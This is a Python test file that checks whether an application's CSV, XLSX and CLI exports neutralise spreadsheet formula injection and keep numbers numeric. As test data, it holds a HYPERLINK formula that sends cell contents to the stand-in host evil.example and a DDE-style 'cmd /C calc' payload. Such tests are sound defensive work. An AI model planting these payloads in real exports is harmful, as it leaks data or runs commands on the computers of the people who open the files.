"""A hostile site name through every CSV/XLSX export: never a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from placeguard.web.common.streaming import csv_lines
from placeguard.web.sites.models import Site
from tests.conftest import World

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(cells: list[list[Any]]) -> None:
    for row in cells:
        for cell in row:
            if isinstance(cell, str) and cell[:1] in {"=", "+", "-", "@", "\t", "\r"}:
                float(cell)  # only a plain number may start with a sign


@pytest.fixture
def hostile_world(world: World) -> World:
    Site.objects.filter(pk=world.sites["mall_north"].pk).update(name=HOSTILE)
    return world


def _streamed(response: Any) -> str:
    return b"".join(response.streaming_content).decode()


def test_site_csv_and_xlsx_exports(hostile_world: World) -> None:
    from django.test import Client

    client = Client()
    client.force_login(hostile_world.users["mall_admin"])
    text = _streamed(client.get("/sites/export.csv"))
    cells = _csv_cells(text)
    assert ["'" + HOSTILE] in [[c for c in row if c.startswith("'=")] for row in cells]
    _assert_no_formula(cells)
    header = cells[0]
    lat = header.index("latitude")
    assert all(float(row[lat]) for row in cells[1:] if row[lat])  # numbers stay plain
    book = load_workbook(io.BytesIO(client.get("/sites/export.xlsx").content))
    rows = [list(r) for r in book.active.iter_rows(values_only=True)]  # type: ignore[union-attr]
    assert any("'" + HOSTILE in row for row in rows)
    _assert_no_formula(rows)
    assert rows[0][0] == "id" and isinstance(rows[1][0], int)  # numbers stay numeric


def test_cli_site_export(hostile_world: World, capsys: pytest.CaptureFixture[str]) -> None:
    from placeguard.cli.main import FileFormat, sites_export

    sites_export(as_user="mall_admin", file_format=FileFormat.CSV, output=None)
    cells = _csv_cells(capsys.readouterr().out)
    assert any("'" + HOSTILE in row for row in cells)
    _assert_no_formula(cells)


def test_action_plan_exports(hostile_world: World) -> None:
    from placeguard.web.assessments.exporting import action_items_csv, action_items_xlsx
    from placeguard.web.assessments.models import ActionItem

    site = Site.objects.get(name=HOSTILE)
    item = ActionItem(
        site=site,
        title="-1-1",
        owner=None,
        owner_name=HOSTILE_OWNER,
        measure_id="m1",
        status="OPEN",
        capex=-5,
        opex=0,
        notes="\t=cmd",
    )
    cells = _csv_cells(action_items_csv([item]))
    assert cells[1][1] == "'" + HOSTILE and cells[1][4] == "'-1-1"
    assert cells[1][5] == "'" + HOSTILE_OWNER and cells[1][11] == "'\t=cmd"
    assert cells[1][9] == "-5.0"
    _assert_no_formula(cells)
    book = load_workbook(io.BytesIO(action_items_xlsx([item])))
    rows = [list(r) for r in book.active.iter_rows(values_only=True)]  # type: ignore[union-attr]
    assert rows[1][1] == "'" + HOSTILE and rows[1][9] == -5.0
    _assert_no_formula(rows)


def test_patrol_schedule_export() -> None:
    from placeguard.web.allocation.exporting import schedule_csv
    from placeguard.web.allocation.models import PatrolPlan

    plan = PatrolPlan(
        results={
            "sites": [{"id": 1, "name": HOSTILE}],
            "schedule": {
                "seed": 1,
                "method": "m",
                "assignments": [
                    {
                        "date": "2027-03-01",
                        "shift": 1,
                        "start": "2027-03-01T00:00",
                        "end": "2027-03-01T12:00",
                        "team": "+team",
                        "site": 1,
                    },
                ],
            },
        }
    )
    cells = _csv_cells(schedule_csv(plan))
    assert "'" + HOSTILE in cells[1] and "'+team" in cells[1]
    _assert_no_formula(cells)


def test_site_report_exports() -> None:
    from dataclasses import replace

    import yaml

    from placeguard.content import load_risk_pack
    from placeguard.engines.risk.inputs import parse_assessment_input
    from placeguard.web.reports import findings_csv, findings_xlsx
    from tests.web.reports.conftest import MOSQUE, make_report

    pack = load_risk_pack()
    data = parse_assessment_input(yaml.safe_load(MOSQUE.read_text(encoding="utf-8")), pack)
    report = replace(make_report(pack, data), site_name=HOSTILE)
    cells = _csv_cells(findings_csv(report))
    assert any("'" + HOSTILE in row for row in cells)
    _assert_no_formula(cells)
    book = load_workbook(io.BytesIO(findings_xlsx(report)))
    for sheet in book.worksheets:
        _assert_no_formula([list(r) for r in sheet.iter_rows(values_only=True)])


def test_streaming_csv_neutralises_whatever_the_caller_passes() -> None:
    text = "".join(csv_lines([["name", "n"], [HOSTILE, -3], ["-3", "-3-3"]]))
    cells = _csv_cells(text)
    assert cells[1] == ["'" + HOSTILE, "-3"]
    assert cells[2] == ["-3", "'-3-3"]
